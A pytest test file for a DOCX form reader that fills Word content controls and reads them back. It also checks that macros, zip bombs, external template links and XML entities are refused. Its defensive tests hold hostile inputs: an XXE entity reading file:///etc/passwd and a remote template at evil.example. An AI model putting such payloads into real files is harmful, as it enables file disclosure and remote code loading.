"""The blank DOCX: content controls tagged like the PDF's fields, filled and read back."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from lxml import etree

from ehdocs.fillable import (
    FormMismatchError,
    MissingFieldsError,
    UnknownFormError,
    UnreadableFormError,
    field_map,
)
from ehdocs.fillable.formats import CHECKED, PLACEHOLDERS, UNCHECKED, W14, W
from ehdocs.fillable.raw import name_references, to_raw_document
from ehdocs.fillable.read_docx import read_docx_fields
from ehdocs.schema import FormSet
from tests.fillable.conftest import FORMS, make_answers

NS = {"w": W, "w14": W14}


def _w(tag: str) -> str:
    return f"{{{W}}}{tag}"


def _document(docx: bytes) -> etree._Element:
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        return etree.fromstring(package.read("word/document.xml"))


def _replace_part(
    docx: bytes, name: str, data: bytes | None, extra: dict[str, bytes] | None = None
) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(docx)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            if item.filename == name:
                if data is not None:
                    target.writestr(item, data)
            else:
                target.writestr(item, source.read(item.filename))
        for extra_name, extra_data in (extra or {}).items():
            target.writestr(extra_name, extra_data)
    return out.getvalue()


def docx_fill(docx: bytes, values: dict[str, str | bool]) -> bytes:
    """Fill content controls as Word does: the text replaces the placeholder (which is no longer
    shown), line breaks are w:br, a ticked box is w14:checked=1 with the ticked glyph."""
    root = _document(docx)
    done = set()
    for sdt in root.iter(_w("sdt")):
        tag = sdt.find("w:sdtPr/w:tag", NS)
        name = tag.get(_w("val")) if tag is not None else None
        if name not in values:
            continue
        value = values[name]
        props = sdt.find("w:sdtPr", NS)
        content = sdt.find("w:sdtContent", NS)
        box = props.find("w14:checkbox", NS)
        if box is not None:
            box.find("w14:checked", NS).set(f"{{{W14}}}val", "1" if value else "0")
            content.find(".//w:t", NS).text = CHECKED if value else UNCHECKED
        else:
            assert isinstance(value, str)
            shown = props.find("w:showingPlcHdr", NS)
            if shown is not None:
                props.remove(shown)
            for child in list(content):
                content.remove(child)
            run = etree.SubElement(content, _w("r"))
            for n, line in enumerate(value.split("\n")):
                if n:
                    etree.SubElement(run, _w("br"))
                t = etree.SubElement(run, _w("t"))
                t.set("{http://www.w3.org/XML/1998/namespace}space", "preserve")
                t.text = line
        done.add(name)
    assert done == set(values)
    return _replace_part(
        docx,
        "word/document.xml",
        etree.tostring(root, xml_declaration=True, encoding="UTF-8", standalone=True),
    )


@pytest.fixture(scope="module", params=[*FORMS, "fieldtypes"])
def blank(request, formset, types_formset, blank_docxs, types_docx):  # type: ignore[no-untyped-def]
    if request.param == "fieldtypes":
        return types_formset, "fieldtypes", types_docx
    return formset, request.param, blank_docxs[request.param]


def test_every_field_is_a_tagged_control(blank: tuple[FormSet, str, bytes]) -> None:
    formset, form, docx = blank
    fmap = field_map(formset, form, "docx")
    controls = {}
    for sdt in _document(docx).iter(_w("sdt")):
        tag = sdt.find("w:sdtPr/w:tag", NS).get(_w("val"))
        assert tag not in controls
        controls[tag] = sdt.find("w:sdtPr", NS)
    assert set(controls) == set(fmap.by_name)
    for name, props in controls.items():
        entry = fmap[name]
        assert props.find("w:alias", NS).get(_w("val")) == entry.label
        if entry.widget == "checkbox":
            assert props.find("w14:checkbox/w14:checked", NS).get(f"{{{W14}}}val") == "0"
        elif entry.widget == "date":
            assert props.find("w:date/w:dateFormat", NS).get(_w("val")) == "dd/MM/yyyy"
        elif entry.widget == "select":
            items = props.findall("w:dropDownList/w:listItem", NS)
            assert [i.get(_w("value")) for i in items] == [c.state for c in entry.choices]
            assert [i.get(_w("displayText")) for i in items] == [c.label for c in entry.choices]
        else:
            text = props.find("w:text", NS)
            assert text is not None
            assert (text.get(_w("multiLine")) == "1") == (entry.widget == "multiline")
            assert props.find("w:showingPlcHdr", NS) is not None


def test_blank_reads_as_empty(blank: tuple[FormSet, str, bytes]) -> None:
    formset, form, docx = blank
    filled = read_docx_fields(docx)
    assert (filled.form, filled.format) == (form, "docx")
    assert filled.digest == field_map(formset, form, "docx").digest
    assert filled.answered() == {}
    assert to_raw_document(filled, formset) == {}


def test_filled_reads_back(blank: tuple[FormSet, str, bytes]) -> None:
    formset, form, docx = blank
    answers = make_answers(field_map(formset, form, "docx"), formset)
    filled = read_docx_fields(docx_fill(docx, answers.docx))
    assert to_raw_document(filled, formset) == answers.expected
    found = [(r.path, r.kind, r.text, r.date_of_birth) for r in name_references(filled, formset)]
    assert sorted(found) == sorted(answers.references)


def test_paragraphs_in_a_control_are_lines(formset: FormSet, blank_docxs: dict[str, bytes]) -> None:
    """Word writes a multi-paragraph answer as w:p elements inside the control."""
    root = _document(blank_docxs["notification"])
    for sdt in root.iter(_w("sdt")):
        if sdt.find("w:sdtPr/w:tag", NS).get(_w("val")) == "consent__notes":
            content = sdt.find("w:sdtContent", NS)
            for child in list(content):
                content.remove(child)
            for line in ("First", "Second\tafter a tab"):
                p = etree.SubElement(content, _w("p"))
                etree.SubElement(etree.SubElement(p, _w("r")), _w("t")).text = line
            props = sdt.find("w:sdtPr", NS)
            props.remove(props.find("w:showingPlcHdr", NS))
    docx = _replace_part(blank_docxs["notification"], "word/document.xml", etree.tostring(root))
    data = to_raw_document(read_docx_fields(docx), formset)
    assert data == {"consent": {"notes": "First\nSecond\tafter a tab"}}


def test_placeholders_read_as_empty() -> None:
    assert len(set(PLACEHOLDERS.values())) >= 3


def test_a_pdf_digest_does_not_read_a_docx(formset: FormSet, blank_docxs: dict[str, bytes]) -> None:
    filled = read_docx_fields(blank_docxs["plan"])
    from dataclasses import replace

    with pytest.raises(FormMismatchError):
        to_raw_document(replace(filled, digest=field_map(formset, "plan").digest), formset)


def test_macros_are_refused(blank_docxs: dict[str, bytes]) -> None:
    docx = _replace_part(blank_docxs["plan"], "", None, {"word/vbaProject.bin": b"\0" * 100})
    with pytest.raises(UnreadableFormError, match="macros"):
        read_docx_fields(docx)


def test_external_relationships_are_refused(blank_docxs: dict[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(blank_docxs["plan"])) as package:
        rels = package.read("word/_rels/document.xml.rels").decode()
    template = (
        '<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="https://evil.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    hyperlink = template.replace("attachedTemplate", "hyperlink")
    bad = _replace_part(
        blank_docxs["plan"],
        "word/_rels/document.xml.rels",
        rels.replace("</Relationships>", template).encode(),
    )
    with pytest.raises(UnreadableFormError, match="outside"):
        read_docx_fields(bad)
    fine = _replace_part(
        blank_docxs["plan"],
        "word/_rels/document.xml.rels",
        rels.replace("</Relationships>", hyperlink).encode(),
    )
    assert read_docx_fields(fine).form == "plan"  # a link typed in an answer is fine


def test_entities_are_refused(blank_docxs: dict[str, bytes]) -> None:
    with zipfile.ZipFile(io.BytesIO(blank_docxs["plan"])) as package:
        xml = package.read("word/document.xml")
    evil = xml.replace(
        b"?>",
        b'?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        1,
    )
    with pytest.raises(UnreadableFormError):
        read_docx_fields(_replace_part(blank_docxs["plan"], "word/document.xml", evil))


def test_without_identity_is_not_ours(blank_docxs: dict[str, bytes]) -> None:
    docx = _replace_part(blank_docxs["plan"], "docProps/custom.xml", None)
    with pytest.raises(UnknownFormError, match="not a form made by this service"):
        read_docx_fields(docx)


@pytest.mark.parametrize(
    ("data", "message"),
    [(b"%PDF-1.7", "not a Word document"), (b"PK\x03\x04broken", "could not be read")],
)
def test_not_a_docx(data: bytes, message: str) -> None:
    with pytest.raises(UnreadableFormError, match=message):
        read_docx_fields(data)


def test_a_zip_bomb_is_refused(blank_docxs: dict[str, bytes]) -> None:
    docx = _replace_part(
        blank_docxs["plan"], "", None, {"word/media/big.bin": b"\0" * (40 * 1024 * 1024)}
    )
    with pytest.raises(UnreadableFormError, match="too large"):
        read_docx_fields(docx)


soffice = shutil.which("soffice")


@pytest.mark.libreoffice
@pytest.mark.skipif(soffice is None, reason="LibreOffice is not installed")
def test_libreoffice_opens_the_blank(blank_docxs: dict[str, bytes], tmp_path: Path) -> None:
    source = tmp_path / "notification.docx"
    source.write_bytes(blank_docxs["notification"])
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        [
            str(soffice),
            f"-env:UserInstallation=file://{profile}",
            "--headless",
            "--convert-to",
            "pdf",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        capture_output=True,
        text=True,
        timeout=180,
    )
    converted = tmp_path / "notification.pdf"
    assert converted.is_file(), done.stdout + done.stderr
    from pypdf import PdfReader

    reader = PdfReader(converted)
    assert len(reader.pages) >= 3
    text = " ".join(page.extract_text() for page in reader.pages)
    assert "Early Help Notification" in text and "Date of request" in text


@pytest.mark.libreoffice
@pytest.mark.skipif(soffice is None, reason="LibreOffice is not installed")
def test_a_form_saved_by_a_writer_that_drops_tags_is_refused(
    formset: FormSet, blank_docxs: dict[str, bytes], tmp_path: Path
) -> None:
    """LibreOffice 7.4 keeps the custom properties but drops content-control tags when it saves
    a DOCX. Such a file must be refused with a reason, never read as an empty form. (If the
    LibreOffice installed keeps tags, the file simply reads: both are acceptable.)"""
    source = tmp_path / "in.docx"
    source.write_bytes(blank_docxs["notification"])
    out = tmp_path / "out"
    subprocess.run(
        [
            str(soffice),
            f"-env:UserInstallation=file://{tmp_path / 'lo-profile'}",
            "--headless",
            "--convert-to",
            "docx:MS Word 2007 XML",
            "--outdir",
            str(out),
            str(source),
        ],
        capture_output=True,
        timeout=180,
    )
    saved = (out / "in.docx").read_bytes()
    filled = read_docx_fields(saved)
    assert filled.form == "notification"  # the custom properties survive
    if set(filled.values) == set(field_map(formset, "notification", "docx").by_name):
        assert to_raw_document(filled, formset) == {}
    else:
        with pytest.raises(MissingFieldsError, match="answer boxes"):
            to_raw_document(filled, formset)
